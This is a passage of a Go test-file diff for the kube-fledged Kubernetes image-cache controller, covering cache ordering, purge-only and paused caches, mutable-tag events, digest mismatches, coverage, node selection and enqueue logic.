+				{Images: []string{"tools:1.0"}, Priority: -1},
+				{Images: []string{"runtime:1.0"}, Priority: 10},
+			},
+		},
+		Status: kubefledgedv1alpha1.ImageCacheStatus{
+			Status: kubefledgedv1alpha1.ImageCacheActionStatusSucceeded,
+		},
+	}
+	fakefledgedclientset := &kubefledgedclientsetfake.Clientset{}
+	fakefledgedclientset.AddReactor("get", "imagecaches", func(action core.Action) (handled bool, ret runtime.Object, err error) {
+		return true, imageCache.DeepCopy(), nil
+	})
+	fakefledgedclientset.AddReactor("update", "imagecaches", func(action core.Action) (handled bool, ret runtime.Object, err error) {
+		return true, action.(core.UpdateAction).GetObject(), nil
+	})
+	controller, nodeInformer, imagecacheInformer := newTestController(&fakeclientset.Clientset{}, fakefledgedclientset)
+	nodeInformer.Informer().GetIndexer().Add(&node)
+	imagecacheInformer.Informer().GetIndexer().Add(&imageCache)
+	if err := controller.syncHandler(images.WorkQueueKey{ObjKey: "kube-fledged/foo", WorkType: images.ImageCacheCreate}); err != nil {
+		t.Fatalf("Test failed: expectedError=nil, actualError=%s", err.Error())
+	}
+	expected := []string{"base:1.0", "base-debug:1.0", "runtime:1.0", "app:1.0", "tools:1.0", ""}
+	for i := 0; i < 100 && controller.imageworkqueue.Len() < len(expected); i++ {
+		time.Sleep(10 * time.Millisecond)
+	}
+	actual := []string{}
+	for controller.imageworkqueue.Len() > 0 {
+		obj, _ := controller.imageworkqueue.Get()
+		actual = append(actual, obj.(images.ImageWorkRequest).Image)
+		controller.imageworkqueue.Done(obj)
+	}
+	if !reflect.DeepEqual(actual, expected) {
+		t.Errorf("Test failed: expected images queued in order %q, actual %q", expected, actual)
+	}
+}
+
+func TestPurgeOnlyImageCache(t *testing.T) {
+	imageCache := kubefledgedv1alpha1.ImageCache{
+		ObjectMeta: metav1.ObjectMeta{
+			Name:      "foo",
+			Namespace: "kube-fledged",
+		},
+		Spec: kubefledgedv1alpha1.ImageCacheSpec{
+			CacheSpec: []kubefledgedv1alpha1.CacheSpecImages{
+				{Images: []string{"vulnerable:1.0"}},
+			},
+			PurgeOnly: true,
+		},
+		Status: kubefledgedv1alpha1.ImageCacheStatus{
+			Status: kubefledgedv1alpha1.ImageCacheActionStatusSucceeded,
+		},
+	}
+	fakefledgedclientset := &kubefledgedclientsetfake.Clientset{}
+	var updates []*kubefledgedv1alpha1.ImageCache
+	fakefledgedclientset.AddReactor("get", "imagecaches", func(action core.Action) (handled bool, ret runtime.Object, err error) {
+		return true, imageCache.DeepCopy(), nil
+	})
+	fakefledgedclientset.AddReactor("update", "imagecaches", func(action core.Action) (handled bool, ret runtime.Object, err error) {
+		obj := action.(core.UpdateAction).GetObject().(*kubefledgedv1alpha1.ImageCache)
+		updates = append(updates, obj)
+		return true, obj, nil
+	})
+	controller, nodeInformer, imagecacheInformer := newTestController(&fakeclientset.Clientset{}, fakefledgedclientset)
+	nodeInformer.Informer().GetIndexer().Add(&node)
+	imagecacheInformer.Informer().GetIndexer().Add(&imageCache)
+
+	for _, workType := range []images.WorkType{images.ImageCacheCreate, images.ImageCacheRefresh} {
+		updates = nil
+		if err := controller.syncHandler(images.WorkQueueKey{ObjKey: "kube-fledged/foo", WorkType: workType}); err != nil {
+			t.Errorf("Test: %s failed: expectedError=nil, actualError=%s", workType, err.Error())
+			continue
+		}
+		for i := 0; i < 100 && controller.imageworkqueue.Len() < 2; i++ {
+			time.Sleep(10 * time.Millisecond)
+		}
+		for controller.imageworkqueue.Len() > 0 {
+			obj, _ := controller.imageworkqueue.Get()
+			if iwr := obj.(images.ImageWorkRequest); iwr.Image != "" && iwr.WorkType != images.ImageCachePurge {
+				t.Errorf("Test: %s failed: expected image %s to be purged, actual %s", workType, iwr.Image, iwr.WorkType)
+			}
+			controller.imageworkqueue.Done(obj)
+		}
+		if len(updates) == 0 {
+			t.Errorf("Test: %s failed: image cache status not updated", workType)
+			continue
+		}
+		if hasPurgeFinalizer(updates[0]) {
+			t.Errorf("Test: %s failed: purge finalizer added to purge-only image cache", workType)
+		}
+		if updates[0].Status.Message != kubefledgedv1alpha1.ImageCacheMessagePurgeOnly {
+			t.Errorf("Test: %s failed: expected message %q, actual %q", workType, kubefledgedv1alpha1.ImageCacheMessagePurgeOnly, updates[0].Status.Message)
+		}
+		conditions := conditionsOfType(updates[0].Status.Conditions, kubefledgedv1alpha1.ImageCacheConditionAllImagesCached)
+		if len(conditions) != 1 || conditions[0].Reason != kubefledgedv1alpha1.ImageCacheReasonPurgeOnly {
+			t.Errorf("Test: %s failed: expected AllImagesCached condition with reason %s, actual %+v", workType, kubefledgedv1alpha1.ImageCacheReasonPurgeOnly, conditions)
+		}
+	}
+
+	// Completion of the purge is reported
+	updates = nil
+	imageCache.Status.Reason = kubefledgedv1alpha1.ImageCacheReasonImageCacheCreate
+	wqKey := images.WorkQueueKey{ObjKey: "kube-fledged/foo", WorkType: images.ImageCacheStatusUpdate, Status: &map[string]images.ImageWorkResult{
+		"job1": {
+			Status:           images.ImageWorkResultStatusSucceeded,
+			ImageWorkRequest: images.ImageWorkRequest{Image: "vulnerable:1.0", WorkType: images.ImageCachePurge, Node: &node},
+		},
+	}}
+	if err := controller.syncHandler(wqKey); err != nil {
+		t.Fatalf("Test: %s failed: expectedError=nil, actualError=%s", wqKey.WorkType, err.Error())
+	}
+	if len(updates) == 0 {
+		t.Fatalf("Test: %s failed: image cache status not updated", wqKey.WorkType)
+	}
+	status := updates[0].Status
+	if status.Status != kubefledgedv1alpha1.ImageCacheActionStatusSucceeded || status.Message != kubefledgedv1alpha1.ImageCacheMessageImagesDeletedSuccessfully {
+		t.Errorf("Test: %s failed: expected status %s with message %q, actual %s with message %q", wqKey.WorkType, kubefledgedv1alpha1.ImageCacheActionStatusSucceeded,
+			kubefledgedv1alpha1.ImageCacheMessageImagesDeletedSuccessfully, status.Status, status.Message)
+	}
+	if conditions := conditionsOfType(status.Conditions, kubefledgedv1alpha1.ImageCacheConditionAllImagesCached); len(conditions) != 1 ||
+		conditions[0].Reason != kubefledgedv1alpha1.ImageCacheReasonPurgeOnly {
+		t.Errorf("Test: %s failed: expected AllImagesCached condition with reason %s, actual %+v", wqKey.WorkType, kubefledgedv1alpha1.ImageCacheReasonPurgeOnly, status.Conditions)
+	}
+}
+
+func TestPausedImageCache(t *testing.T) {
+	pausedCondition := kubefledgedv1alpha1.ImageCacheCondition{
+		Type:    kubefledgedv1alpha1.ImageCacheConditionPaused,
+		Status:  corev1.ConditionTrue,
+		Reason:  kubefledgedv1alpha1.ImageCacheReasonPaused,
+		Message: kubefledgedv1alpha1.ImageCacheMessagePaused,
+	}
+	tests := []struct {
+		name              string
+		workType          images.WorkType
+		paused            bool
+		status            kubefledgedv1alpha1.ImageCacheActionStatus
+		annotations       map[string]string
+		conditions        []kubefledgedv1alpha1.ImageCacheCondition
+		expectedCondition *kubefledgedv1alpha1.ImageCacheCondition
+		expectUpdate      bool
+		expectWork        bool
+		expectRequeue     bool
+	}{
+		{
+			name:              "#1: Paused image cache is not refreshed, and refresh annotation is removed",
+			workType:          images.ImageCacheRefresh,
+			paused:            true,
+			status:            kubefledgedv1alpha1.ImageCacheActionStatusSucceeded,
+			annotations:       map[string]string{imageCacheRefreshAnnotationKey: ""},
+			expectedCondition: &pausedCondition,
+			expectUpdate:      true,
+		},
+		{
+			name:       "#2: Already paused image cache is not updated",
+			workType:   images.ImageCacheUpdate,
+			paused:     true,
+			status:     kubefledgedv1alpha1.ImageCacheActionStatusSucceeded,
+			conditions: []kubefledgedv1alpha1.ImageCacheCondition{pausedCondition},
+		},
+		{
+			name:          "#3: Pause of image cache under processing is deferred",
+			workType:      images.ImageCacheUpdate,
+			paused:        true,
+			status:        kubefledgedv1alpha1.ImageCacheActionStatusProcessing,
+			expectRequeue: true,
+		},
+		{
+			name:       "#4: Resumed image cache is reconciled",
+			workType:   images.ImageCacheUpdate,
+			status:     kubefledgedv1alpha1.ImageCacheActionStatusSucceeded,
+			conditions: []kubefledgedv1alpha1.ImageCacheCondition{pausedCondition},
+			expectedCondition: &kubefledgedv1alpha1.ImageCacheCondition{
+				Type:   kubefledgedv1alpha1.ImageCacheConditionPaused,
+				Status: corev1.ConditionFalse,
+				Reason: kubefledgedv1alpha1.ImageCacheReasonResumed,
+			},
+			expectUpdate: true,
+			expectWork:   true,
+		},
+	}
+
+	for _, test := range tests {
+		imageCache := kubefledgedv1alpha1.ImageCache{
+			ObjectMeta: metav1.ObjectMeta{
+				Name:        "foo",
+				Namespace:   "kube-fledged",
+				Annotations: test.annotations,
+				Finalizers:  []string{imageCachePurgeFinalizer},
+			},
+			Spec: kubefledgedv1alpha1.ImageCacheSpec{
+				CacheSpec: []kubefledgedv1alpha1.CacheSpecImages{
+					{Images: []string{"foo"}},
+				},
+				Paused: test.paused,
+			},
+			Status: kubefledgedv1alpha1.ImageCacheStatus{
+				Status:     test.status,
+				Reason:     kubefledgedv1alpha1.ImageCacheReasonImageCacheCreate,
+				Conditions: test.conditions,
+			},
+		}
+		fakefledgedclientset := &kubefledgedclientsetfake.Clientset{}
+		var updates []*kubefledgedv1alpha1.ImageCache
+		fakefledgedclientset.AddReactor("get", "imagecaches", func(action core.Action) (handled bool, ret runtime.Object, err error) {
+			return true, imageCache.DeepCopy(), nil
+		})
+		fakefledgedclientset.AddReactor("update", "imagecaches", func(action core.Action) (handled bool, ret runtime.Object, err error) {
+			obj := action.(core.UpdateAction).GetObject().(*kubefledgedv1alpha1.ImageCache)
+			updates = append(updates, obj)
+			return true, obj, nil
+		})
+		controller, nodeInformer, imagecacheInformer := newTestController(&fakeclientset.Clientset{}, fakefledgedclientset)
+		nodeInformer.Informer().GetIndexer().Add(&node)
+		imagecacheInformer.Informer().GetIndexer().Add(&imageCache)
+
+		wqKey := images.WorkQueueKey{ObjKey: "kube-fledged/foo", WorkType: test.workType}
+		if test.workType == images.ImageCacheUpdate {
+			wqKey.OldImageCache = imageCache.DeepCopy()
+		}
+		if err := controller.syncHandler(wqKey); err != nil {
+			t.Errorf("Test: %s failed: expectedError=nil, actualError=%s", test.name, err.Error())
+			continue
+		}
+		if actualUpdate := len(updates) > 0; actualUpdate != test.expectUpdate {
+			t.Errorf("Test: %s failed: expectUpdate=%t, actualUpdate=%t", test.name, test.expectUpdate, actualUpdate)
+			continue
+		}
+		if test.expectUpdate {
+			status := updates[0].Status
+			if test.paused && status.Status != test.status {
+				t.Errorf("Test: %s failed: expected status %s to be retained, actual %s", test.name, test.status, status.Status)
+			}
+			var condition *kubefledgedv1alpha1.ImageCacheCondition
+			for i := range status.Conditions {
+				if status.Conditions[i].Type == kubefledgedv1alpha1.ImageCacheConditionPaused {
+					condition = &status.Conditions[i]
+				}
+			}
+			if condition == nil || condition.Status != test.expectedCondition.Status || condition.Reason != test.expectedCondition.Reason {
+				t.Errorf("Test: %s failed: expected Paused condition %+v, actual %+v", test.name, test.expectedCondition, condition)
+			}
+		}
+		if test.annotations != nil {
+			if _, exists := updates[len(updates)-1].Annotations[imageCacheRefreshAnnotationKey]; exists {
+				t.Errorf("Test: %s failed: refresh annotation not removed", test.name)
+			}
+		}
+		for i := 0; test.expectWork && i < 100 && controller.imageworkqueue.Len() < 2; i++ {
+			time.Sleep(10 * time.Millisecond)
+		}
+		if actualWork := controller.imageworkqueue.Len() > 0; actualWork != test.expectWork {
+			t.Errorf("Test: %s failed: expectWork=%t, actualWork=%t", test.name, test.expectWork, actualWork)
+		}
+		if actualRequeue := controller.workqueue.NumRequeues(wqKey) > 0; actualRequeue != test.expectRequeue {
+			t.Errorf("Test: %s failed: expectRequeue=%t, actualRequeue=%t", test.name, test.expectRequeue, actualRequeue)
+		}
+	}
+}
+
+func TestHasMutableTag(t *testing.T) {
+	tests := []struct {
+		image    string
+		expected bool
+	}{
+		{image: "nginx:edge", expected: true},
+		{image: "myregistry:5000/myapp:nightly", expected: true},
+		{image: "nginx", expected: false},
+		{image: "nginx:latest", expected: false},
+		{image: "nginx:1.17", expected: false},
+		{image: "nginx@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef", expected: false},
+		{image: "nginx:dev@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef", expected: false},
+		{image: "Invalid:Image", expected: false},
+	}
+	for _, test := range tests {
+		if actual := hasMutableTag(test.image); actual != test.expected {
+			t.Errorf("Test: %s failed: expected %t, actual %t", test.image, test.expected, actual)
+		}
+	}
+}
+
+func TestMutableImageTagEvent(t *testing.T) {
+	tests := []struct {
+		name            string
+		workType        images.WorkType
+		imagePullPolicy corev1.PullPolicy
+		refreshSchedule string
+		expectEvent     bool
+	}{
+		{
+			name:        "#1: Create - Default IfNotPresent policy",
+			workType:    images.ImageCacheCreate,
+			expectEvent: true,
+		},
+		{
+			name:            "#2: Create - Always policy",
+			workType:        images.ImageCacheCreate,
+			imagePullPolicy: corev1.PullAlways,
+		},
+		{
+			name:            "#3: Create - Refresh schedule",
+			workType:        images.ImageCacheCreate,
+			refreshSchedule: "0 * * * *",
+		},
+		{
+			name:     "#4: Refresh - Not advised again",
+			workType: images.ImageCacheRefresh,
+		},
+	}
+	for _, test := range tests {
+		imageCache := kubefledgedv1alpha1.ImageCache{
+			ObjectMeta: metav1.ObjectMeta{
+				Name:      "foo",
+				Namespace: "kube-fledged",
+			},
+			Spec: kubefledgedv1alpha1.ImageCacheSpec{
+				CacheSpec: []kubefledgedv1alpha1.CacheSpecImages{
+					{
+						Images:          []string{"foo:dev", "bar:1.0", "baz:latest"},
+						ImagePullPolicy: test.imagePullPolicy,
+					},
+				},
+				RefreshSchedule: test.refreshSchedule,
+			},
+			Status: kubefledgedv1alpha1.ImageCacheStatus{
+				Status: kubefledgedv1alpha1.ImageCacheActionStatusSucceeded,
+			},
+		}
+		fakefledgedclientset := &kubefledgedclientsetfake.Clientset{}
+		fakefledgedclientset.AddReactor("get", "imagecaches", func(action core.Action) (handled bool, ret runtime.Object, err error) {
+			return true, imageCache.DeepCopy(), nil
+		})
+		fakefledgedclientset.AddReactor("update", "imagecaches", func(action core.Action) (handled bool, ret runtime.Object, err error) {
+			return true, action.(core.UpdateAction).GetObject(), nil
+		})
+		controller, nodeInformer, imagecacheInformer := newTestController(&fakeclientset.Clientset{}, fakefledgedclientset)
+		recorder := record.NewFakeRecorder(10)
+		controller.recorder = recorder
+		nodeInformer.Informer().GetIndexer().Add(&node)
+		imagecacheInformer.Informer().GetIndexer().Add(&imageCache)
+		if err := controller.syncHandler(images.WorkQueueKey{ObjKey: "kube-fledged/foo", WorkType: test.workType}); err != nil {
+			t.Errorf("Test: %s failed: expectedError=nil, actualError=%s", test.name, err.Error())
+			continue
+		}
+		close(recorder.Events)
+		var event string
+		for e := range recorder.Events {
+			if strings.Contains(e, kubefledgedv1alpha1.ImageCacheReasonMutableImageTag) {
+				event = e
+			}
+		}
+		if (event != "") != test.expectEvent {
+			t.Errorf("Test: %s failed: expectEvent=%t, actual event %q", test.name, test.expectEvent, event)
+			continue
+		}
+		if test.expectEvent && (!strings.HasSuffix(event, "foo:dev") || strings.Contains(event, "bar:1.0") || strings.Contains(event, "baz:latest")) {
+			t.Errorf("Test: %s failed: expected event for foo:dev only, actual event %q", test.name, event)
+		}
+	}
+}
+
+func TestImageDigestMismatches(t *testing.T) {
+	tests := []struct {
+		name           string
+		statuses       []kubefledgedv1alpha1.ImageNodeStatus
+		expectedImages []string
+	}{
+		{
+			name: "#1: Same digest on all nodes",
+			statuses: []kubefledgedv1alpha1.ImageNodeStatus{
+				{Image: "foo", Node: "bar", Digest: "sha256:aaa"},
+				{Image: "foo", Node: "baz", Digest: "sha256:aaa"},
+			},
+			expectedImages: []string{},
+		},
+		{
+			name: "#2: Different digests on different nodes",
+			statuses: []kubefledgedv1alpha1.ImageNodeStatus{
+				{Image: "foo", Node: "bar", Digest: "sha256:aaa"},
+				{Image: "foo", Node: "baz", Digest: "sha256:bbb"},
+				{Image: "foo", Node: "qux", Digest: "sha256:aaa"},
+				{Image: "nginx", Node: "bar", Digest: "sha256:ccc"},
+				{Image: "nginx", Node: "baz", Digest: "sha256:ccc"},
+			},
+			expectedImages: []string{"foo"},
+		},
+		{
+			name: "#3: Images without digest are not compared",
+			statuses: []kubefledgedv1alpha1.ImageNodeStatus{
+				{Image: "foo", Node: "bar", Digest: "sha256:aaa"},
+				{Image: "foo", Node: "baz"},
+				{Image: "nginx", Node: "bar"},
+			},
+			expectedImages: []string{},
+		},
+	}
+	for _, test := range tests {
+		if actual := imageDigestMismatches(test.statuses); !reflect.DeepEqual(actual, test.expectedImages) {
+			t.Errorf("Test: %s failed: expected %v, actual %v", test.name, test.expectedImages, actual)
+		}
+	}
+}
+
+func TestImageCacheCoverage(t *testing.T) {
+	tests := []struct {
+		name             string
+		statuses         []kubefledgedv1alpha1.ImageNodeStatus
+		expectedCoverage kubefledgedv1alpha1.ImageCacheCoverage
+	}{
+		{
+			name:             "#1: No nodes selected",
+			expectedCoverage: kubefledgedv1alpha1.ImageCacheCoverage{},
+		},
+		{
+			name: "#2: Images in all phases",
+			statuses: []kubefledgedv1alpha1.ImageNodeStatus{
+				{Image: "foo", Node: "bar", Phase: kubefledgedv1alpha1.ImagePhaseCached},
+				{Image: "foo", Node: "baz", Phase: kubefledgedv1alpha1.ImagePhaseCached},
+				{Image: "nginx", Node: "bar", Phase: kubefledgedv1alpha1.ImagePhaseFailed},
+				{Image: "nginx", Node: "baz", Phase: kubefledgedv1alpha1.ImagePhaseQueued},
+				{Image: "redis", Node: "bar", Phase: kubefledgedv1alpha1.ImagePhaseQueued},
+				{Image: "redis", Node: "baz", Phase: kubefledgedv1alpha1.ImagePhaseCached},
+				{Image: "old", Node: "bar", Phase: kubefledgedv1alpha1.ImagePhaseDeleted},
+			},
+			expectedCoverage: kubefledgedv1alpha1.ImageCacheCoverage{Total: 6, Cached: 3, Failed: 1, Pending: 2, Percentage: 50},
+		},
+		{
+			name: "#3: Percentage rounded down",
+			statuses: []kubefledgedv1alpha1.ImageNodeStatus{
+				{Image: "foo", Node: "bar", Phase: kubefledgedv1alpha1.ImagePhaseCached},
+				{Image: "foo", Node: "baz", Phase: kubefledgedv1alpha1.ImagePhaseCached},
+				{Image: "foo", Node: "qux", Phase: kubefledgedv1alpha1.ImagePhaseFailed},
+			},
+			expectedCoverage: kubefledgedv1alpha1.ImageCacheCoverage{Total: 3, Cached: 2, Failed: 1, Percentage: 66},
+		},
+		{
+			name: "#4: Only deleted images",
+			statuses: []kubefledgedv1alpha1.ImageNodeStatus{
+				{Image: "foo", Node: "bar", Phase: kubefledgedv1alpha1.ImagePhaseDeleted},
+			},
+			expectedCoverage: kubefledgedv1alpha1.ImageCacheCoverage{},
+		},
+	}
+	for _, test := range tests {
+		if actual := imageCacheCoverage(test.statuses); !reflect.DeepEqual(*actual, test.expectedCoverage) {
+			t.Errorf("Test: %s failed: expected %+v, actual %+v", test.name, test.expectedCoverage, *actual)
+		}
+	}
+}
+
+func TestSelectNodes(t *testing.T) {
+	nodes := []corev1.Node{
+		{
+			ObjectMeta: metav1.ObjectMeta{
+				Name:   "gpunode",
+				Labels: map[string]string{"kubernetes.io/hostname": "gpunode", "accelerator": "gpu"},
+			},
+		},
+		{
+			ObjectMeta: metav1.ObjectMeta{
+				Name:   "cpunode",
+				Labels: map[string]string{"kubernetes.io/hostname": "cpunode"},
+			},
+		},
+	}
+	tests := []struct {
+		name          string
+		nodeSelector  map[string]string
+		expectedNodes []string
+	}{
+		{
+			name:          "#1: Empty node selector selects all nodes",
+			nodeSelector:  map[string]string{},
+			expectedNodes: []string{"cpunode", "gpunode"},
+		},
+		{
+			name:          "#2: Nil node selector selects all nodes",
+			nodeSelector:  nil,
+			expectedNodes: []string{"cpunode", "gpunode"},
+		},
+		{
+			name:          "#3: Node selector selects matching nodes",
+			nodeSelector:  map[string]string{"accelerator": "gpu"},
+			expectedNodes: []string{"gpunode"},
+		},
+		{
+			name:          "#4: Node selector with multiple labels selects nodes matching all labels",
+			nodeSelector:  map[string]string{"accelerator": "gpu", "kubernetes.io/hostname": "cpunode"},
+			expectedNodes: []string{},
+		},
+		{
+			name:          "#5: Node selector matches no nodes",
+			nodeSelector:  map[string]string{"accelerator": "tpu"},
+			expectedNodes: []string{},
+		},
+	}
+	for _, test := range tests {
+		controller, nodeInformer, _ := newTestController(&fakeclientset.Clientset{}, &kubefledgedclientsetfake.Clientset{})
+		for i := range nodes {
+			nodeInformer.Informer().GetIndexer().Add(&nodes[i])
+		}
+		selected, err := controller.selectNodes(test.nodeSelector)
+		if err != nil {
+			t.Errorf("Test: %s failed. expectedError=nil, actualError=%s", test.name, err.Error())
+			continue
+		}
+		selectedNodes := []string{}
+		for _, n := range selected {
+			selectedNodes = append(selectedNodes, n.Name)
+		}
+		sort.Strings(selectedNodes)
+		if !reflect.DeepEqual(selectedNodes, test.expectedNodes) {
+			t.Errorf("Test: %s failed: expectedNodes=%v, actualNodes=%v", test.name, test.expectedNodes, selectedNodes)
+		}
+	}
+}
+
+func TestEnqueueImageCache(t *testing.T) {
+	//now := metav1.Now()
+	//nowplus5s := metav1.NewTime(time.Now().Add(time.Second * 5))
+	defaultImageCache := kubefledgedv1alpha1.ImageCache{
+		ObjectMeta: metav1.ObjectMeta{
+			Name:      "foo",
+			Namespace: "kube-fledged",
+		},
+		Spec: kubefledgedv1alpha1.ImageCacheSpec{
+			CacheSpec: []kubefledgedv1alpha1.CacheSpecImages{
+				{
+					Images: []string{"foo"},
+				},
+			},
+		},
+	}
+	finalizedImageCache := *defaultImageCache.DeepCopy()
+	finalizedImageCache.Finalizers = []string{imageCachePurgeFinalizer}
+	finalizedImageCache.Status.Status = kubefledgedv1alpha1.ImageCacheActionStatusSucceeded
+	deletedImageCache := *finalizedImageCache.DeepCopy()
+	deletionTimestamp := metav1.Now()
+	deletedImageCache.DeletionTimestamp = &deletionTimestamp
+	purgeImageCache := func(value string) kubefledgedv1alpha1.ImageCache {
+		imageCache := *finalizedImageCache.DeepCopy()
+		imageCache.Annotations = map[string]string{imageCachePurgeImageAnnotationKey: value}
+		return imageCache
+	}
+	processingImageCache := *finalizedImageCache.DeepCopy()
+	processingImageCache.Status.Status = kubefledgedv1alpha1.ImageCacheActionStatusProcessing
+	pausedImageCache := *processingImageCache.DeepCopy()
+	pausedImageCache.Spec.Paused = true
+	tests := []struct {
+		name           string
+		workType       images.WorkType
+		oldImageCache  kubefledgedv1alpha1.ImageCache
+		newImageCache  kubefledgedv1alpha1.ImageCache
+		expectedResult bool
+	}{
+		{
+			name:           "#1: Create - Imagecache queued successfully",
+			workType:       images.ImageCacheCreate,
+			newImageCache:  defaultImageCache,
+			expectedResult: true,
+		},
+		{
+			name:     "#2: Create - Imagecache with Status field, so no queueing",
+			workType: images.ImageCacheCreate,
+			newImageCache: kubefledgedv1alpha1.ImageCache{
+				ObjectMeta: metav1.ObjectMeta{
+					Name:      "foo",
+					Namespace: "kube-fledged",
+				},
+				Spec: kubefledgedv1alpha1.ImageCacheSpec{
+					CacheSpec: []kubefledgedv1alpha1.CacheSpecImages{
+						{
+							Images: []string{"foo"},
+						},
+					},
+				},
+				Status: kubefledgedv1alpha1.ImageCacheStatus{
+					Status: kubefledgedv1alpha1.ImageCacheActionStatusSucceeded,
+				},
+			},
+			expectedResult: false,
+		},
+		{
+			name:          "#3: Update - Imagecache purge. Successful queueing",
+			workType:      images.ImageCacheUpdate,
+			oldImageCache: defaultImageCache,
+			newImageCache: kubefledgedv1alpha1.ImageCache{
+				ObjectMeta: metav1.ObjectMeta{
+					Name:        "foo",
+					Namespace:   "kube-fledged",
+					Annotations: map[string]string{imageCachePurgeAnnotationKey: ""},
+				},
+				Spec: kubefledgedv1alpha1.ImageCacheSpec{
+					CacheSpec: []kubefledgedv1alpha1.CacheSpecImages{
+						{
+							Images: []string{"foo"},
+						},
+					},
+				},
+				Status: kubefledgedv1alpha1.ImageCacheStatus{
+					Status: kubefledgedv1alpha1.ImageCacheActionStatusSucceeded,
+				},
+			},
+			expectedResult: true,
+		},
+		{
+			name:           "#4: Update - No change in Spec. Unsuccessful queueing",
+			workType:       images.ImageCacheUpdate,
+			oldImageCache:  defaultImageCache,
+			newImageCache:  defaultImageCache,
+			expectedResult: false,
+		},
+		{
+			name:     "#5: Update - Status processing. Unsuccessful queueing",
+			workType: images.ImageCacheUpdate,
+			oldImageCache: kubefledgedv1alpha1.ImageCache{
+				ObjectMeta: metav1.ObjectMeta{
+					Name:      "foo",
+					Namespace: "kube-fledged",
+				},
+				Spec: kubefledgedv1alpha1.ImageCacheSpec{
+					CacheSpec: []kubefledgedv1alpha1.CacheSpecImages{
+						{
+							Images: []string{"foo"},
+						},
+					},
+				},
+				Status: kubefledgedv1alpha1.ImageCacheStatus{
+					Status: kubefledgedv1alpha1.ImageCacheActionStatusProcessing,
+				},
+			},
+			expectedResult: false,
+		},
+		{
+			name:          "#6: Update - Successful queueing",
+			workType:      images.ImageCacheUpdate,
+			oldImageCache: defaultImageCache,
+			newImageCache: kubefledgedv1alpha1.ImageCache{
+				ObjectMeta: metav1.ObjectMeta{
+					Name:      "foo",
+					Namespace: "kube-fledged",
+				},
+				Spec: kubefledgedv1alpha1.ImageCacheSpec{
+					CacheSpec: []kubefledgedv1alpha1.CacheSpecImages{
+						{
+							Images: []string{"foo", "bar"},
+						},
+					},
+				},
+			},
+			expectedResult: true,
+		},
+		{
+			name:           "#7: Delete - Unsuccessful queueing",
+			workType:       images.ImageCacheDelete,
+			expectedResult: false,
+		},
+		{
+			name:           "#8: Refresh - Successful queueing",
+			workType:       images.ImageCacheRefresh,
+			oldImageCache:  defaultImageCache,
+			expectedResult: true,
+		},
+		/*
+			{
+				name:          "#9: Update - CacheSpec restoration",
+				workType:      images.ImageCacheUpdate,
+				oldImageCache: defaultImageCache,
+				newImageCache: kubefledgedv1alpha1.ImageCache{
+					ObjectMeta: metav1.ObjectMeta{
+						Name:      "foo",
+						Namespace: "kube-fledged",
+						Annotations: map[string]string{
+							fledgedCacheSpecValidationKey: "failed",
+						},
+					},
+					Spec: kubefledgedv1alpha1.ImageCacheSpec{
+						CacheSpec: []kubefledgedv1alpha1.CacheSpecImages{
+							{
+								Images: []string{"foo", "bar"},
+							},
+						},
+					},
+				},
+				expectedResult: false,
+			},
+		*/
+		{
+			name:          "#10: Update - Imagecache refresh. Successful queueing",
+			workType:      images.ImageCacheUpdate,
+			oldImageCache: defaultImageCache,
+			newImageCache: kubefledgedv1alpha1.ImageCache{
+				ObjectMeta: metav1.ObjectMeta{
+					Name:        "foo",
+					Namespace:   "kube-fledged",
+					Annotations: map[string]string{imageCacheRefreshAnnotationKey: ""},
+				},
+				Spec: kubefledgedv1alpha1.ImageCacheSpec{
+					CacheSpec: []kubefledgedv1alpha1.CacheSpecImages{
+						{
+							Images: []string{"foo"},
+						},
+					},
+				},
+				Status: kubefledgedv1alpha1.ImageCacheStatus{
+					Status: kubefledgedv1alpha1.ImageCacheActionStatusSucceeded,
+				},
+			},
+			expectedResult: true,
+		},
+		{
+			name:           "#11: Update - Imagecache deleted. Queued for purge",
+			workType:       images.ImageCacheUpdate,
+			oldImageCache:  finalizedImageCache,
+			newImageCache:  deletedImageCache,
+			expectedResult: true,
+		},
+		{
+			name:           "#12: Update - Imagecache already being deleted, so no queueing",
+			workType:       images.ImageCacheUpdate,
+			oldImageCache:  deletedImageCache,
+			newImageCache:  deletedImageCache,
+			expectedResult: false,
+		},
+		{
+			name:           "#13: Create - Imagecache deleted while controller was down. Queued for purge",
+			workType:       images.ImageCacheCreate,
+			newImageCache:  deletedImageCache,
+			expectedResult: true,
+		},
+		{
+			name:           "#14: Update - Image purge requested. Queued for purge",
+			workType:       images.ImageCacheUpdate,
+			oldImageCache:  finalizedImageCache,
+			newImageCache:  purgeImageCache("foo@bar"),
+			expectedResult: true,
+		},
+		{
+			name:           "#15: Update - Invalid image purge request, so no queueing",
+			workType:       images.ImageCacheUpdate,
+			oldImageCache:  finalizedImageCache,
+			newImageCache:  purgeImageCache("foo"),
+			expectedResult: false,
+		},
+		{
+			name:           "#16: Update - Image purge already requested, so no queueing",
+			workType:       images.ImageCacheUpdate,
+			oldImageCache:  purgeImageCache("foo@bar"),
+			newImageCache:  purgeImageCache("foo@bar"),
+			expectedResult: false,
+		},
+		{
+			name:           "#17: Update - Imagecache paused while under processing. Successful queueing",
+			workType:       images.ImageCacheUpdate,
+			oldImageCache:  processingImageCache,
+			newImageCache:  pausedImageCache,
+			expectedResult: true,
+		},
+	}
+
+	for _, test := range tests {
+		fakekubeclientset := &fakeclientset.Clientset{}
+		fakefledgedclientset := &kubefledgedclientsetfake.Clientset{}
+		controller, _, _ := newTestController(fakekubeclientset, fakefledgedclientset)
+		result := controller.enqueueImageCache(test.workType, &test.oldImageCache, &test.newImageCache)
+		if result != test.expectedResult {
+			t.Errorf("Test %s failed: expected=%t, actual=%t", test.name, test.expectedResult, result)
+		}
+	}
+}
+
+func TestWatched(t *testing.T) {
+	imageCache := &kubefledgedv1alpha1.ImageCache{
+		ObjectMeta: metav1.ObjectMeta{
+			Name:      "foo",
+			Namespace: "tenant-a",
+		},
+	}
+	tests := []struct {
+		name            string
+		watchNamespaces []string
+		obj             interface{}
+		expectedResult  bool
+	}{
+		{
+			name:           "#1: All namespaces watched",
+			obj:            imageCache,
+			expectedResult: true,
+		},
+		{
+			name:            "#2: Namespace watched",
+			watchNamespaces: []string{"tenant-b", "tenant-a"},
+			obj:             imageCache,
+			expectedResult:  true,
+		},
+		{
+			name:            "#3: Namespace not watched",
+			watchNamespaces: []string{"tenant-b"},
+			obj:             imageCache,
+			expectedResult:  false,
+		},
+		{
+			name:            "#4: Deleted image cache of watched namespace",
+			watchNamespaces: []string{"tenant-a"},
